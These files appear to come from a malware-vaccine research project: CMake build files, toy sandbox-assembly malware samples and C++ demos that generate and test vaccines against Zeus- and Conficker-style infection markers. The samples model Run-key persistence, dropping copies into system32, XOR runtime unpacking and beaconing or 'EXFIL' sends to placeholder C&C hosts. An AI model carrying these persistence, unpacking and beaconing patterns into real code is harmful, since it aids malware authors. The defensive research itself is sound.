  "../bench/phase1_stats"
  "../bench/phase1_stats.pdb"
  "CMakeFiles/phase1_stats.dir/phase1_stats.cc.o"
  "CMakeFiles/phase1_stats.dir/phase1_stats.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/phase1_stats.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
