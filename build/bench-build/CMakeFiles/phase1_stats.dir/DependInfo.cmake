
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/bench/phase1_stats.cc" "bench-build/CMakeFiles/phase1_stats.dir/phase1_stats.cc.o" "gcc" "bench-build/CMakeFiles/phase1_stats.dir/phase1_stats.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/bench-build/CMakeFiles/autovac_bench_common.dir/DependInfo.cmake"
  "/root/repo/build/src/vaccine/CMakeFiles/autovac_vaccine.dir/DependInfo.cmake"
  "/root/repo/build/src/analysis/CMakeFiles/autovac_analysis.dir/DependInfo.cmake"
  "/root/repo/build/src/malware/CMakeFiles/autovac_malware.dir/DependInfo.cmake"
  "/root/repo/build/src/sandbox/CMakeFiles/autovac_sandbox.dir/DependInfo.cmake"
  "/root/repo/build/src/taint/CMakeFiles/autovac_taint.dir/DependInfo.cmake"
  "/root/repo/build/src/trace/CMakeFiles/autovac_trace.dir/DependInfo.cmake"
  "/root/repo/build/src/os/CMakeFiles/autovac_os.dir/DependInfo.cmake"
  "/root/repo/build/src/vm/CMakeFiles/autovac_vm.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/autovac_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
