# Empty dependencies file for fig4_bdr.
# This may be replaced when dependencies are built.
