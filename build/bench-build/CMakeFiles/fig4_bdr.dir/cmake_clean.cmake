file(REMOVE_RECURSE
  "../bench/fig4_bdr"
  "../bench/fig4_bdr.pdb"
  "CMakeFiles/fig4_bdr.dir/fig4_bdr.cc.o"
  "CMakeFiles/fig4_bdr.dir/fig4_bdr.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig4_bdr.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
