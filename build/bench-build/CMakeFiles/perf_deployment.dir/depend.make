# Empty dependencies file for perf_deployment.
# This may be replaced when dependencies are built.
