file(REMOVE_RECURSE
  "../bench/perf_deployment"
  "../bench/perf_deployment.pdb"
  "CMakeFiles/perf_deployment.dir/perf_deployment.cc.o"
  "CMakeFiles/perf_deployment.dir/perf_deployment.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/perf_deployment.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
