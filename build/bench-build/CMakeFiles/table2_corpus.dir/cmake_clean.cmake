file(REMOVE_RECURSE
  "../bench/table2_corpus"
  "../bench/table2_corpus.pdb"
  "CMakeFiles/table2_corpus.dir/table2_corpus.cc.o"
  "CMakeFiles/table2_corpus.dir/table2_corpus.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table2_corpus.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
