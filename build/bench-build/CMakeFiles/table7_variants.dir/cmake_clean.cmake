file(REMOVE_RECURSE
  "../bench/table7_variants"
  "../bench/table7_variants.pdb"
  "CMakeFiles/table7_variants.dir/table7_variants.cc.o"
  "CMakeFiles/table7_variants.dir/table7_variants.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table7_variants.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
