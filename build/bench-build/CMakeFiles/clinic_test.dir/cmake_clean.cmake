file(REMOVE_RECURSE
  "../bench/clinic_test"
  "../bench/clinic_test.pdb"
  "CMakeFiles/clinic_test.dir/clinic_test.cc.o"
  "CMakeFiles/clinic_test.dir/clinic_test.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/clinic_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
