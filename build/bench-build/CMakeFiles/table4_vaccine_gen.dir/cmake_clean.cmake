file(REMOVE_RECURSE
  "../bench/table4_vaccine_gen"
  "../bench/table4_vaccine_gen.pdb"
  "CMakeFiles/table4_vaccine_gen.dir/table4_vaccine_gen.cc.o"
  "CMakeFiles/table4_vaccine_gen.dir/table4_vaccine_gen.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table4_vaccine_gen.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
