# Empty dependencies file for table4_vaccine_gen.
# This may be replaced when dependencies are built.
