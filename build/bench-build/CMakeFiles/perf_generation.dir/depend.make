# Empty dependencies file for perf_generation.
# This may be replaced when dependencies are built.
