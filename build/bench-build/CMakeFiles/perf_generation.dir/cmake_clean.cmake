file(REMOVE_RECURSE
  "../bench/perf_generation"
  "../bench/perf_generation.pdb"
  "CMakeFiles/perf_generation.dir/perf_generation.cc.o"
  "CMakeFiles/perf_generation.dir/perf_generation.cc.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/perf_generation.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
