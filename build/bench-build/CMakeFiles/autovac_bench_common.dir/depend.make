# Empty dependencies file for autovac_bench_common.
# This may be replaced when dependencies are built.
