file(REMOVE_RECURSE
  "CMakeFiles/autovac_bench_common.dir/common.cc.o"
  "CMakeFiles/autovac_bench_common.dir/common.cc.o.d"
  "libautovac_bench_common.a"
  "libautovac_bench_common.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/autovac_bench_common.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
