file(REMOVE_RECURSE
  "libautovac_bench_common.a"
)
