; Static infection marker (the Conficker/Zeus pattern):
; the sample refuses to run twice on one machine, drops a copy,
; persists via the Run key and beacons to its C&C.
;
;   ./build/tools/autovac analyze samples/marker_demo.asm --package m.pkg
;   ./build/tools/autovac test samples/marker_demo.asm m.pkg
.name marker_demo
.rdata
  string marker "demo-marker-mtx"
  string drop   "C:\\Windows\\system32\\mdemo.exe"
  string runkey "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
  string val    "mdemo"
  string host   "cc.marker.example.net"
  string ping   "PING"
.text
  push marker
  push 1
  sys CreateMutexA
  add esp, 8
  sys GetLastError
  cmp eax, 183
  jz infected
  push 2
  push drop
  sys CreateFileA
  add esp, 8
  cmp eax, 0xFFFFFFFF
  jz loop_start
  push runkey
  sys RegOpenKeyA
  add esp, 4
  mov ebx, eax
  push drop
  push val
  push ebx
  sys RegSetValueExA
  add esp, 12
loop_start:
  sys WSAStartup
beacon:
  sys socket
  mov ebx, eax
  push 80
  push host
  push ebx
  sys connect
  add esp, 12
  push 4
  push ping
  push ebx
  sys send
  add esp, 12
  push ebx
  sys closesocket
  add esp, 4
  push 700
  sys Sleep
  add esp, 4
  jmp beacon
infected:
  push 0
  sys ExitProcess
