; Runtime unpacker (the packed-dropper pattern): the infection marker's
; mutex name never appears in the static image — the .rdata blob holds
; an XOR-packed payload the stub decrypts into a .data buffer and then
; executes (write-then-execute; the VM surfaces it as a
; self-modifying-code event and re-decodes the dirtied pages). Generated
; by `autovac corpus` (runtime-unpack class); checked in so the e2e
; pipeline test covers a self-modifying sample without generating one.
;
;   ./build/tools/autovac analyze samples/unpack_demo.asm --package u.pkg
;   ./build/tools/autovac test samples/unpack_demo.asm u.pkg
.name unpack_demo
.evasion runtime-unpack
.rdata
  string str2 "cnc-vg60zj.example.net"
  string str3 "EXFIL"
  word blob0 0xc3c7c3cb 0xc3c3c39b 0xc33cc3ca 0xc3c3c3c3 0xc33c3cc9 0xc3c3c3c2 0xc33c3ce8 0xc3c3c3cd 0xc33cc4ce 0xc3c3c3cb 0xc33c3ce8 0xc3c3c3fc 0xc33cc3dc 0xc3c3c374 0xc33c3ce0 0xc3c3c3d3 0xc33c3ce9 0xc3c3c3c3 0xc33c3cc9 0xc3c3c3c3 0xc33c3ce8 0xc3c3c3df 0x9c829586 0xa9b4f2a5 0xabb5aaa6 0x00c3aef3
.data
  buffer buf1 104
.text
  mov edx, 414
  add edx, 33
  xor edx, edx
  add ebx, 56
  mov ecx, 0
  mov edx, blob0
  mov edi, buf1
unpack_1:
  cmp ecx, 103
  jge unpacked_2
  loadb eax, [edx]
  xor eax, 195
  storeb [edi], eax
  inc edx
  inc edi
  inc ecx
  jmp unpack_1
unpacked_2:
  mov esi, buf1
  call buf1
  sys WSAStartup
  sys socket
  mov ebx, eax
  push 443
  push str2
  push ebx
  sys connect
  add esp, 12
  push 5
  push str3
  push ebx
  sys send
  add esp, 12
  push ebx
  sys closesocket
  add esp, 4
  sys socket
  mov ebx, eax
  push 443
  push str2
  push ebx
  sys connect
  add esp, 12
  push 5
  push str3
  push ebx
  sys send
  add esp, 12
  push ebx
  sys closesocket
  add esp, 4
  hlt
bail_0:
  push 0
  sys ExitProcess
