; Algorithm-deterministic marker (the Conficker pattern): the mutex name
; is derived from the computer name. AUTOVAC extracts a replayable slice
; of the generation logic; the vaccine daemon runs it per host.
;
;   ./build/tools/autovac analyze samples/derived_demo.asm --report d.md
.name derived_demo
.rdata
  string fmt "Global\\%s-31"
.data
  buffer host 64
  buffer hex 32
  buffer name 128
.text
  push 64
  push host
  sys GetComputerNameA
  add esp, 8
  push host
  sys lstrlenA
  add esp, 4
  mov ecx, eax
  push ecx
  push host
  push 0
  sys RtlComputeCrc32
  add esp, 12
  push 16
  push hex
  push eax
  sys _itoa
  add esp, 12
  push hex
  push fmt
  push name
  sys wsprintfA
  add esp, 12
  push name
  push 0
  sys OpenMutexA
  add esp, 8
  cmp eax, 0
  jnz infected
  push name
  push 1
  sys CreateMutexA
  add esp, 8
  hlt
infected:
  push 0
  sys ExitProcess
