; Partial-static marker: a random middle between fixed fragments
; ("sentry-<rand>-lock"). No single name can be pre-injected; the vaccine
; daemon intercepts mutex APIs and matches the wildcard pattern.
;
;   ./build/tools/autovac analyze samples/partial_demo.asm
.name partial_demo
.rdata
  string fmt  "sentry-%x-lock"
  string drop "C:\\Windows\\system32\\pdemo.exe"
.data
  buffer name 128
.text
  sys rand
  push eax
  push fmt
  push name
  sys wsprintfA
  add esp, 12
  push name
  push 1
  sys CreateMutexA
  add esp, 8
  sys GetLastError
  cmp eax, 183
  jz infected
  push 2
  push drop
  sys CreateFileA
  add esp, 8
  hlt
infected:
  push 0
  sys ExitProcess
