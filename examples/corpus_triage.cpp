// Corpus triage: the operational workflow the paper's use case describes
// — a feed of fresh samples arrives, AUTOVAC profiles each one, extracts
// vaccines where possible, clinic-tests them and emits a deployable
// vaccine package.
//
// Build & run:  ./build/examples/corpus_triage [sample_count]
#include <cstdio>
#include <cstdlib>
#include <map>

#include "malware/benign.h"
#include "malware/corpus.h"
#include "support/strings.h"
#include "vaccine/clinic.h"
#include "vaccine/delivery.h"
#include "vaccine/pipeline.h"

using namespace autovac;

int main(int argc, char** argv) {
  const size_t total = argc > 1 ? std::strtoul(argv[1], nullptr, 10) : 200;

  // ---- infrastructure: benign corpus + exclusiveness index --------------
  auto benign = malware::BuildBenignCorpus();
  AUTOVAC_CHECK(benign.ok());
  analysis::ExclusivenessIndex index;
  for (const vm::Program& app : benign.value()) {
    os::HostEnvironment env = os::HostEnvironment::StandardMachine();
    sandbox::RunOptions options;
    options.enable_taint = false;
    index.IndexBenignTrace(app.name,
                           sandbox::RunProgram(app, env, options).api_trace);
  }

  // ---- the incoming sample feed --------------------------------------------
  malware::CorpusOptions corpus_options;
  corpus_options.total = total;
  auto corpus = malware::GenerateCorpus(corpus_options);
  AUTOVAC_CHECK(corpus.ok());
  std::printf("triaging %zu incoming samples...\n\n", corpus->size());

  vaccine::VaccinePipeline pipeline(&index);
  std::vector<vaccine::Vaccine> all_vaccines;
  size_t vaccinable = 0;
  std::map<std::string, size_t> by_category;
  std::map<std::string, size_t> filter_stats;

  for (const malware::CorpusSample& sample : corpus.value()) {
    auto report = pipeline.Analyze(sample.program);
    filter_stats["not exclusive"] += report.filtered_not_exclusive;
    filter_stats["no impact"] += report.filtered_no_impact;
    filter_stats["non-deterministic"] += report.filtered_non_deterministic;
    if (report.vaccines.empty()) continue;
    ++vaccinable;
    by_category[std::string(malware::CategoryName(sample.category))]++;
    for (vaccine::Vaccine& v : report.vaccines) {
      all_vaccines.push_back(std::move(v));
    }
  }

  std::printf("vaccinable samples: %zu / %zu (%.1f%%)\n", vaccinable,
              corpus->size(),
              100.0 * static_cast<double>(vaccinable) /
                  static_cast<double>(corpus->size()));
  for (const auto& [category, count] : by_category) {
    std::printf("  %-12s %zu\n", category.c_str(), count);
  }
  std::printf("candidates filtered in Phase-II:\n");
  for (const auto& [reason, count] : filter_stats) {
    std::printf("  %-18s %zu\n", reason.c_str(), count);
  }

  // ---- clinic-test the whole package -----------------------------------------
  auto clinic = vaccine::RunClinicTest(all_vaccines, benign.value());
  std::printf("\nclinic test: %zu vaccines in, %zu passed, %zu discarded\n",
              all_vaccines.size(), clinic.passed.size(),
              clinic.discarded.size());

  // ---- the deployable package --------------------------------------------------
  vaccine::VaccineDaemon package;
  for (const vaccine::Vaccine& v : clinic.passed) package.AddVaccine(v);
  os::HostEnvironment endhost = os::HostEnvironment::StandardMachine();
  auto injection = package.Install(endhost);
  std::printf("\nvaccine package installed on an end host:\n");
  std::printf("  direct injections:   %zu\n", injection.direct_injected);
  std::printf("  slice replays:       %zu\n", injection.slices_replayed);
  std::printf("  daemon patterns:     %zu\n", injection.daemon_patterns);

  std::printf("\nfirst few injected identifiers:\n");
  for (size_t i = 0; i < std::min<size_t>(8, injection.injected_identifiers.size());
       ++i) {
    std::printf("  %s\n", injection.injected_identifiers[i].c_str());
  }

  // ---- verify immunity against the whole feed -------------------------------------
  size_t blocked = 0;
  size_t weakened = 0;
  sandbox::RunOptions run_options;
  run_options.enable_taint = false;
  size_t attacks = 0;
  for (const malware::CorpusSample& sample : corpus.value()) {
    if (attacks >= 50) break;  // sample the verification
    os::HostEnvironment machine = endhost;
    auto normal_env = os::HostEnvironment::StandardMachine();
    auto normal = sandbox::RunProgram(sample.program, normal_env, run_options);
    auto attack = sandbox::RunProgram(sample.program, machine, run_options,
                                      {package.Hook()});
    ++attacks;
    if (attack.stop_reason == vm::StopReason::kExited &&
        normal.stop_reason != vm::StopReason::kExited) {
      ++blocked;
    } else if (attack.api_trace.size() < normal.api_trace.size() * 9 / 10) {
      ++weakened;
    }
  }
  std::printf("\nre-attack with the first %zu samples: %zu fully blocked, "
              "%zu weakened\n", attacks, blocked, weakened);
  return 0;
}
