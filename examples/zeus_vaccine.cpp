// Zeus/Zbot case study (§VI-D, Table VI): file-based and mutex-based
// vaccines, clinic-tested, then measured with the Behavior Decreasing
// Ratio. Reproduces the paper's two deliveries:
//   * sdra64.exe — "owned by a super user and does not allow any creation
//     operation by others", blocking Zeus's process start;
//   * _AVIRA_2109 — a mutex that stops process hijacking.
//
// Build & run:  ./build/examples/zeus_vaccine
#include <cstdio>

#include "malware/benign.h"
#include "malware/families.h"
#include "vaccine/bdr.h"
#include "vaccine/clinic.h"
#include "vaccine/delivery.h"
#include "vaccine/pipeline.h"

using namespace autovac;

int main() {
  auto zeus = malware::BuildZeus(malware::VariantOptions{});
  AUTOVAC_CHECK(zeus.ok());

  // ---- train the exclusiveness index on benign software ----------------
  analysis::ExclusivenessIndex index;
  auto benign = malware::BuildBenignCorpus();
  AUTOVAC_CHECK(benign.ok());
  for (const vm::Program& app : benign.value()) {
    os::HostEnvironment env = os::HostEnvironment::StandardMachine();
    sandbox::RunOptions options;
    options.enable_taint = false;
    index.IndexBenignTrace(app.name,
                           sandbox::RunProgram(app, env, options).api_trace);
  }
  std::printf("exclusiveness index trained on %zu benign programs (%zu "
              "identifiers)\n\n", benign->size(), index.size());

  // ---- generate Zeus's vaccines -------------------------------------------
  vaccine::VaccinePipeline pipeline(&index);
  auto report = pipeline.Analyze(zeus.value());
  std::printf("Zeus vaccines (%zu found, %zu candidates filtered as "
              "non-exclusive):\n", report.vaccines.size(),
              report.filtered_not_exclusive);
  for (const vaccine::Vaccine& v : report.vaccines) {
    std::printf("  %s\n", v.Summary().c_str());
  }

  // ---- clinic test (§IV-D) ---------------------------------------------------
  auto clinic = vaccine::RunClinicTest(report.vaccines, benign.value());
  std::printf("\nclinic test: %zu passed, %zu discarded\n",
              clinic.passed.size(), clinic.discarded.size());

  // ---- deploy & measure -------------------------------------------------------
  auto bdr = vaccine::MeasureBdr(zeus.value(), clinic.passed);
  std::printf("\n5-minute effect analysis (§VI-E):\n");
  std::printf("  normal machine:     %zu native calls\n",
              bdr.native_calls_normal);
  std::printf("  vaccinated machine: %zu native calls\n",
              bdr.native_calls_vaccinated);
  std::printf("  BDR = %.2f\n", bdr.bdr);

  // ---- what each vaccine stops, one at a time ----------------------------------
  std::printf("\nper-vaccine effect (install one, watch what Zeus loses):\n");
  for (const vaccine::Vaccine& v : clinic.passed) {
    auto solo = vaccine::MeasureBdr(zeus.value(), {v});
    std::printf("  %-34s BDR %.2f\n", v.identifier.c_str(), solo.bdr);
  }

  // ---- the sdra64.exe story from the paper ---------------------------------------
  os::HostEnvironment machine = os::HostEnvironment::StandardMachine();
  for (const vaccine::Vaccine& v : clinic.passed) {
    if (v.identifier == "C:\\Windows\\system32\\sdra64.exe") {
      vaccine::InjectVaccine(machine, v, v.identifier);
    }
  }
  sandbox::RunOptions options;
  options.enable_taint = false;
  auto attack = sandbox::RunProgram(zeus.value(), machine, options);
  std::printf("\nwith only the sdra64.exe vaccine: Zeus ran %zu calls; its "
              "drop %s; Winlogon persistence %s\n",
              attack.api_trace.size(),
              attack.api_trace.FindCalls("WinExec").empty()
                  ? "never started a process"
                  : "started a process (!)",
              [&] {
                std::string userinit;
                machine.ns().QueryValue(
                    "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
                    "Userinit", &userinit);
                return userinit.find("sdra64") == std::string::npos
                           ? "not written"
                           : "written (!)";
              }());
  return 0;
}
