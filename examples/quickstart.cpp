// Quickstart: the whole AUTOVAC loop in one file.
//
//   1. Write a malware-like sample in the sandbox's assembly.
//   2. Run Phase-I (taint-instrumented profiling) + Phase-II (vaccine
//      generation) with VaccinePipeline.
//   3. Deploy the vaccines on a fresh machine (Phase-III).
//   4. Show that the same sample can no longer infect it.
//
// Build & run:  ./build/examples/quickstart
#include <cstdio>

#include "sandbox/sandbox.h"
#include "vaccine/delivery.h"
#include "vaccine/pipeline.h"

using namespace autovac;

// A classic infection-marker sample: it refuses to run twice on one
// machine (mutex marker), drops a copy, persists via the Run key, then
// beacons to its C&C.
constexpr const char* kSample = R"(
.name demo_malware
.rdata
  string marker "demo-infection-marker"
  string drop   "C:\\Windows\\system32\\demomal.exe"
  string runkey "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
  string valname "demomal"
  string host   "cc.demo.example.net"
  string beacon "PING"
.data
  buffer recvbuf 64
.text
  ; --- infection marker check -------------------------------------
  push marker
  push 1
  sys CreateMutexA
  add esp, 8
  sys GetLastError
  cmp eax, 183          ; ERROR_ALREADY_EXISTS -> someone was here
  jz already_infected
  ; --- drop a copy ---------------------------------------------------
  push 2                ; CREATE_ALWAYS
  push drop
  sys CreateFileA
  add esp, 8
  cmp eax, 0xFFFFFFFF
  jz no_drop
  ; --- persist -------------------------------------------------------
  push runkey
  sys RegOpenKeyA
  add esp, 4
  mov ebx, eax
  push drop
  push valname
  push ebx
  sys RegSetValueExA
  add esp, 12
no_drop:
  ; --- C&C loop ------------------------------------------------------
  sys WSAStartup
cc_loop:
  sys socket
  mov ebx, eax
  push 80
  push host
  push ebx
  sys connect
  add esp, 12
  push 4
  push beacon
  push ebx
  sys send
  add esp, 12
  push ebx
  sys closesocket
  add esp, 4
  push 800
  sys Sleep
  add esp, 4
  jmp cc_loop
already_infected:
  push 0
  sys ExitProcess
)";

int main() {
  // ---- step 1: assemble the sample -----------------------------------
  auto program = sandbox::AssembleForSandbox(kSample);
  if (!program.ok()) {
    std::printf("assembly failed: %s\n", program.status().ToString().c_str());
    return 1;
  }
  std::printf("sample '%s' assembled: %zu instructions, digest %s\n\n",
              program->name.c_str(), program->code.size(),
              program->Digest().substr(0, 16).c_str());

  // ---- step 2: run the AUTOVAC pipeline ---------------------------------
  // (no exclusiveness index in the quickstart; see corpus_triage.cpp for
  // the benign-corpus-trained version)
  vaccine::VaccinePipeline pipeline(nullptr);
  vaccine::SampleReport report = pipeline.Analyze(program.value());

  std::printf("Phase-I: %zu resource-API occurrences, %zu tainted, "
              "resource-sensitive: %s\n",
              report.resource_api_occurrences, report.tainted_occurrences,
              report.resource_sensitive ? "yes" : "no");
  std::printf("Phase-II: %zu mutation targets -> %zu vaccines\n\n",
              report.targets_considered, report.vaccines.size());
  for (const vaccine::Vaccine& v : report.vaccines) {
    std::printf("  vaccine: %s\n", v.Summary().c_str());
  }

  // ---- step 3: vaccinate a fresh machine ----------------------------------
  vaccine::VaccineDaemon daemon;
  for (const vaccine::Vaccine& v : report.vaccines) daemon.AddVaccine(v);
  os::HostEnvironment protected_machine = os::HostEnvironment::StandardMachine();
  auto injection = daemon.Install(protected_machine);
  std::printf("\nPhase-III: injected %zu resources on the protected "
              "machine\n", injection.direct_injected);

  // ---- step 4: try to infect it --------------------------------------------
  sandbox::RunOptions options;
  options.enable_taint = false;
  auto attack = sandbox::RunProgram(program.value(), protected_machine,
                                    options, {daemon.Hook()});
  // Did the malware manage to persist? (The vaccine plants a locked decoy
  // at the drop path, so check the autostart entry, not file existence.)
  auto persisted = [](os::HostEnvironment& machine) {
    std::string value;
    return machine.ns()
        .QueryValue("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                    "demomal", &value)
        .ok;
  };
  std::printf("\ninfection attempt on the vaccinated machine: %s after %zu "
              "API calls\n", vm::StopReasonName(attack.stop_reason),
              attack.api_trace.size());
  std::printf("autostart entry written: %s\n",
              persisted(protected_machine) ? "YES (infection!)"
                                           : "no — machine is immune");

  // Contrast with an unprotected machine.
  os::HostEnvironment victim = os::HostEnvironment::StandardMachine();
  auto infection = sandbox::RunProgram(program.value(), victim, options);
  std::printf("\nsame sample on an unprotected machine: %s after %zu API "
              "calls; autostart entry written: %s\n",
              vm::StopReasonName(infection.stop_reason),
              infection.api_trace.size(),
              persisted(victim) ? "yes (infected)" : "no");
  return 0;
}
