// Conficker case study (§VI-D): an algorithm-deterministic vaccine.
//
// Conficker marks infected machines with a mutex whose name is derived
// from the computer name. AUTOVAC discovers the marker, classifies the
// identifier as algorithm-deterministic, extracts an executable slice of
// the name-generation logic, and the vaccine daemon replays that slice on
// every end host to mint the host-specific marker before Conficker gets
// there.
//
// Build & run:  ./build/examples/conficker_immunization
#include <cstdio>

#include "malware/families.h"
#include "sandbox/sandbox.h"
#include "vaccine/delivery.h"
#include "vaccine/pipeline.h"
#include "vm/disassembler.h"

using namespace autovac;

int main() {
  auto conficker = malware::BuildConficker(malware::VariantOptions{});
  AUTOVAC_CHECK(conficker.ok());

  // ---- analysis on the sandbox machine ---------------------------------
  vaccine::VaccinePipeline pipeline(nullptr);
  auto report = pipeline.Analyze(conficker.value());
  std::printf("Conficker model analyzed: %zu vaccines\n",
              report.vaccines.size());

  const vaccine::Vaccine* derived = nullptr;
  for (const vaccine::Vaccine& v : report.vaccines) {
    std::printf("  %s\n", v.Summary().c_str());
    if (v.identifier_kind ==
        analysis::IdentifierClass::kAlgorithmDeterministic) {
      derived = &v;
    }
  }
  if (derived == nullptr || !derived->slice.has_value()) {
    std::printf("no algorithm-deterministic vaccine found!\n");
    return 1;
  }

  // ---- the identifier-generation slice -----------------------------------
  std::printf("\nbackward slicing recovered the marker-generation logic "
              "(Figure 2's middle case):\n%s\n",
              vm::DisassembleProgram(derived->slice->program,
                                     sandbox::SandboxApiNamer())
                  .c_str());

  // ---- deployment across a fleet -------------------------------------------
  std::printf("deploying to a fleet of machines (slice replayed per "
              "host):\n");
  Rng rng(2026);
  size_t immune = 0;
  constexpr int kFleetSize = 8;
  for (int i = 0; i < kFleetSize; ++i) {
    os::HostEnvironment host = os::HostEnvironment::RandomizedMachine(rng);
    const std::string marker =
        vaccine::VaccineDaemon::ReplaySlice(*derived->slice, host);
    vaccine::InjectVaccine(host, *derived, marker);

    // Conficker tries to infect the vaccinated host.
    sandbox::RunOptions options;
    options.enable_taint = false;
    auto attack = sandbox::RunProgram(conficker.value(), host, options);
    const bool stopped = attack.stop_reason == vm::StopReason::kExited;
    immune += stopped;
    std::printf("  %-14s marker=%-22s -> infection %s\n",
                host.profile().computer_name.c_str(), marker.c_str(),
                stopped ? "BLOCKED at the marker check" : "NOT blocked");
  }
  std::printf("\n%zu/%d machines immunized.\n", immune, kFleetSize);

  // ---- contrast: a static vaccine would not travel ---------------------------
  std::printf(
      "\nwhy the slice matters: injecting the analysis machine's marker\n"
      "('%s') verbatim on another host does nothing, because Conficker\n"
      "derives a different name there — the vaccine must be computed per "
      "host.\n",
      derived->identifier.c_str());
  Rng rng2(777);
  os::HostEnvironment naive = os::HostEnvironment::RandomizedMachine(rng2);
  naive.ns().InjectVaccineMutex(derived->identifier);  // wrong marker
  sandbox::RunOptions options;
  options.enable_taint = false;
  auto attack = sandbox::RunProgram(conficker.value(), naive, options);
  std::printf("naive static injection on '%s': infection %s\n",
              naive.profile().computer_name.c_str(),
              attack.stop_reason == vm::StopReason::kExited
                  ? "blocked (unexpectedly!)"
                  : "NOT blocked — as expected");
  return 0;
}
