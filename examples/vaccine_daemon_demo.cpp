// Vaccine-daemon demo (§V): partial-static vaccines.
//
// Some malware randomizes part of its resource identifier
// (mutex "syshelper-<rand>-svc"). No single name can be injected ahead of
// time, but the static fragments are distinguishable — so the daemon
// intercepts resource APIs, matches identifiers against the wildcard
// pattern AUTOVAC extracted, and returns the predefined result.
//
// Build & run:  ./build/examples/vaccine_daemon_demo
#include <cstdio>

#include "sandbox/sandbox.h"
#include "vaccine/delivery.h"
#include "vaccine/pipeline.h"

using namespace autovac;

// Malware whose marker mutex has a random middle: each infection uses a
// different concrete name, but always "syshelper-%x-svc".
constexpr const char* kPolymorphicSample = R"(
.name randmark_malware
.rdata
  string fmt "syshelper-%x-svc"
  string drop "C:\\Windows\\system32\\rndsvc.exe"
.data
  buffer name 128
.text
  sys rand
  push eax
  push fmt
  push name
  sys wsprintfA
  add esp, 12
  push name
  push 1
  sys CreateMutexA
  add esp, 8
  sys GetLastError
  cmp eax, 183
  jz infected
  push 2
  push drop
  sys CreateFileA
  add esp, 8
  hlt
infected:
  push 0
  sys ExitProcess
)";

int main() {
  auto program = sandbox::AssembleForSandbox(kPolymorphicSample);
  AUTOVAC_CHECK(program.ok());

  // ---- pipeline finds the partial-static marker -----------------------
  vaccine::VaccinePipeline pipeline(nullptr);
  auto report = pipeline.Analyze(program.value());
  const vaccine::Vaccine* pattern_vaccine = nullptr;
  for (const vaccine::Vaccine& v : report.vaccines) {
    std::printf("vaccine: %s\n", v.Summary().c_str());
    if (v.identifier_kind == analysis::IdentifierClass::kPartialStatic) {
      pattern_vaccine = &v;
    }
  }
  if (pattern_vaccine == nullptr) {
    std::printf("no partial-static vaccine found\n");
    return 1;
  }
  std::printf("\nextracted wildcard pattern: %s\n",
              pattern_vaccine->pattern.text().c_str());
  std::printf("(concrete instance observed during analysis: %s)\n\n",
              pattern_vaccine->identifier.c_str());

  // ---- without the daemon, direct injection cannot keep up ---------------
  os::HostEnvironment unprotected = os::HostEnvironment::StandardMachine();
  // Even injecting the observed concrete name doesn't help: the next
  // infection draws a different random value.
  unprotected.ns().InjectVaccineMutex(pattern_vaccine->identifier);
  sandbox::RunOptions options;
  options.enable_taint = false;
  auto attack1 = sandbox::RunProgram(program.value(), unprotected, options);
  std::printf("static injection of the observed name only: infection %s\n",
              attack1.stop_reason == vm::StopReason::kExited
                  ? "blocked (lucky rand collision)"
                  : "NOT blocked — the marker name changed");

  // ---- with the daemon: API interception ------------------------------------
  vaccine::VaccineDaemon daemon;
  daemon.AddVaccine(*pattern_vaccine);
  os::HostEnvironment protected_machine = os::HostEnvironment::StandardMachine();
  daemon.Install(protected_machine);

  std::printf("\ndaemon armed with the pattern; five infection attempts on "
              "different machines\n(a different random name each time):\n");
  for (int attempt = 0; attempt < 5; ++attempt) {
    os::HostEnvironment machine =
        os::HostEnvironment::StandardMachine(/*entropy_seed=*/1000 + attempt);
    daemon.Install(machine);
    auto attack = sandbox::RunProgram(program.value(), machine, options,
                                      {daemon.Hook()});
    // Which name did the malware try this time?
    std::string tried = "?";
    for (const auto& call : attack.api_trace.calls) {
      if (call.api_name == "CreateMutexA") tried = call.resource_identifier;
    }
    std::printf("  attempt %d: tried '%s' -> %s\n", attempt + 1,
                tried.c_str(),
                attack.stop_reason == vm::StopReason::kExited
                    ? "intercepted, malware exited"
                    : "ran!");
  }

  // ---- daemon precision: benign identifiers pass through ----------------------
  std::printf("\nbenign mutex names are untouched by the daemon:\n");
  auto benign = sandbox::AssembleForSandbox(R"(
.name wellbehaved
.rdata
  string name "BenignAppInstance"
.text
  push name
  push 1
  sys CreateMutexA
  add esp, 8
  sys GetLastError
  cmp eax, 183
  jz dup
  hlt
dup:
  push 0
  sys ExitProcess
)");
